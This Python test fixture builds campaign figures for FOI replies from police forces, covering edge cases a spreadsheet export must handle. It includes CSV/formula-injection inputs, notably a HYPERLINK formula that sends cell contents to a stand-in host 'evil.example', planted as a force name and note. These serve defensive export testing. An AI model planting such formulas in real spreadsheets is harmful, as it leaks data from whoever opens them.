"""A campaign's figures with every case an export has to get right: formula-like text (in force
names, notes, categories and a force's wording), numbers that are not formulas ("-12", "+1\\n",
"-٣"), quotes, commas, newlines, unicode, empty strings, each kind of figure, the force's wording
that does or does not say the same number, every review state and none, one- and two-way
breakdowns, and a breakdown column shared by two metrics. Made straight through the ORM, so that
cases the importer would tidy up (a reported figure with no wording) are there too."""

from __future__ import annotations

from figures_app.models import Category, Dimension, Figure, FigureReview, FigureSource, Kind, Metric
from requests_app.models import AttachmentScreening, Campaign, RequestAttachment

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def build(campaign: Campaign, *, more: bool = False) -> None:
    """`more` adds cases the pre-streaming fixture lacks (a bare carriage return, which that
    code left unquoted)."""
    offences = Metric.objects.create(campaign=campaign, slug="offences", label="Offences")
    age = Dimension.objects.create(metric=offences, slug="victim_age", label="Age", inferred=True)
    places = Metric.objects.create(campaign=campaign, slug="by_place", label="Places", position=1)
    place = Dimension.objects.create(metric=places, slug="place", label="Place")
    age2 = Dimension.objects.create(metric=places, slug="victim_age", label="Age", position=1)
    a13, unknown = (
        Category.objects.create(dimension=age, value="13", numeric_value=13),
        Category.objects.create(dimension=age, value="unknown", is_unknown=True),
    )
    formula_age = Category.objects.create(dimension=age, value="=1+1")
    online = Category.objects.create(dimension=place, value='online, "chat"')
    home = Category.objects.create(dimension=place, value="-home")
    b13 = Category.objects.create(dimension=age2, value="13")

    requests = {r.force.name.split()[0]: r for r in campaign.requests.select_related("force")}
    p1, p2 = campaign.periods.order_by("start")
    kent, essex, surrey = requests["Kent"], requests["Essex"], requests["Surrey"]
    sussex, cumbria, lancs = requests["Sussex"], requests["Cumbria"], requests["Lancashire"]
    durham, dyfed = requests["Durham"], requests["Dyfed-Powys"]
    kent.force.name = FORMULA  # a force named by someone hostile
    kent.force.save(update_fields=["name"])
    dyfed.force.name = "Heddlu Dyfed-Powys — ŵ 日本 🚓"
    dyfed.force.save(update_fields=["name"])
    FigureReview.objects.create(request=kent, state="approved")
    FigureReview.objects.create(request=essex, state="pending")
    FigureReview.objects.create(request=surrey, state="sent_back")

    def fig(
        foi, metric, period, kind, *, value=None, raw="", note="", cats=(), bounds=None, **more
    ):
        lower, upper = bounds or ((1, 4) if kind == Kind.SUPPRESSED else (None, None))
        Figure.objects.create(
            **more,
            request=foi,
            metric=metric,
            period=period,
            category_key=".".join(str(c.pk) for c in cats),
            category=cats[0] if len(cats) == 1 else None,
            kind=kind,
            value=value,
            lower=lower,
            upper=upper,
            raw_text=raw,
            note=note,
        )

    r, s = Kind.REPORTED, Kind.SUPPRESSED
    fig(kent, offences, p1, r, value=1234, raw="1,234", note=FORMULA)
    fig(kent, offences, p2, r, value=12, raw="12", note='He said "no", then, yes')
    fig(kent, offences, p2, r, value=3, raw="3", cats=[a13], note="@SUM(A1)")
    fig(kent, offences, p2, s, raw="<5", cats=[unknown], note="=")
    fig(kent, offences, p2, r, value=0, raw="0", cats=[formula_age])
    fig(essex, offences, p1, r, value=7, raw=" 7 ", note="line one\nline two\r\nline three")
    fig(essex, offences, p2, r, value=3, raw="٣", note="-٣")  # an Arabic-Indic three
    fig(surrey, offences, p1, r, value=5, raw="", note="")
    fig(surrey, offences, p2, r, value=9, raw="10", note="-12")
    fig(sussex, offences, p1, s, raw="<5", note="+1\n")
    fig(sussex, offences, p2, s, raw="", note="-0.5", bounds=(1, 9))
    fig(cumbria, offences, p1, Kind.NOT_HELD, raw="not held", note="\t=1+1")
    fig(cumbria, offences, p2, Kind.NOT_HELD, raw="", note="- 5")
    fig(lancs, offences, p1, Kind.REFUSED, raw="refused s12", note="'quoted'")
    fig(lancs, offences, p2, Kind.REFUSED, raw="12", note="1,5")
    fig(durham, offences, p1, Kind.NOT_PROVIDED, raw="1.2, 3", note="\u00a0")
    fig(durham, offences, p2, Kind.NOT_PROVIDED, raw="n/p", note="Ünïcödé — 日本語 🚓")
    fig(dyfed, offences, p1, r, value=2_000_000, raw="2 000 000", note="-1e5")
    fig(dyfed, offences, p2, r, value=40, raw="40\n", note="12.")
    fig(kent, places, p1, r, value=8, raw="8", cats=[online, b13], note="two-way")
    fig(kent, places, p1, r, value=2, raw="+2", cats=[home], note="+2")
    fig(essex, places, p2, Kind.REFUSED, raw="=refused", cats=[home, b13])
    if more:
        fig(surrey, places, p1, r, value=1, raw="1", note="a\rb", cats=[online])
        fig(surrey, places, p2, Kind.NOT_HELD, raw="\rnot held", note="\r")
        fig(surrey, places, p2, r, value=123, raw=" \u0661\u0662\u0663\u00a0", cats=[home])
        fig(surrey, places, p2, r, value=1234567, raw="1,234,567", cats=[online])
        fig(surrey, places, p1, r, value=1234, raw="12,34", cats=[home])
        fig(sussex, places, p1, r, value=12, raw="0012", cats=[home])
        fig(sussex, places, p2, Kind.NOT_HELD, raw="\u0663", cats=[home])
        fig(sussex, places, p2, Kind.NOT_PROVIDED, raw="- 1 . 2", cats=[online], note="-1.5\n")
        fig(cumbria, places, p1, r, value=7, raw="7", note="\n=x", cats=[home])
        fig(cumbria, places, p2, r, value=5, raw="5", note="-5\n\n", cats=[online])
        fig(lancs, places, p1, r, value=3, raw="3", note="-\u0663.\u0661", cats=[home])
        fig(lancs, places, p2, r, value=3, raw="3", note="\\.", cats=[online])
        # Where figures were read (issue 13) and where they came from (issue 14).
        reply = attachment(durham, '=reply, "final".xlsx', "replies/durham.xlsx")
        leaked = attachment(dyfed, "leaked.xlsx", "replies/leaked.xlsx", quarantined=True)
        gone = attachment(essex, "deleted.xlsx", "")
        fig(durham, places, p1, r, value=4, raw="4", cats=[home], attachment=reply, location="B7")
        fig(durham, places, p2, r, value=5, raw="5", cats=[home], attachment=reply, location="")
        fig(dyfed, places, p1, r, value=6, raw="6", cats=[home], attachment=leaked, location="C3")
        fig(essex, places, p1, r, value=7, raw="7", cats=[home], attachment=gone, location="-D4")
        fig(surrey, offences, p1, r, value=8, raw="8", cats=[a13], location="=page 2, table 1")
        fig(sussex, offences, p1, r, value=9, raw="9", cats=[a13], source=FigureSource.PUBLISHED)


def attachment(foi, name: str, stored: str, *, quarantined: bool = False) -> RequestAttachment:
    """A file on the request's record (no bytes needed: the export reads only its row);
    `stored` "" is a file whose bytes were deleted."""
    made = RequestAttachment.objects.create(
        request=foi, file=stored, original_name=name, sha256="0" * 64, size_bytes=1
    )
    AttachmentScreening.objects.create(attachment=made, quarantined=quarantined, findings=[])
    return made
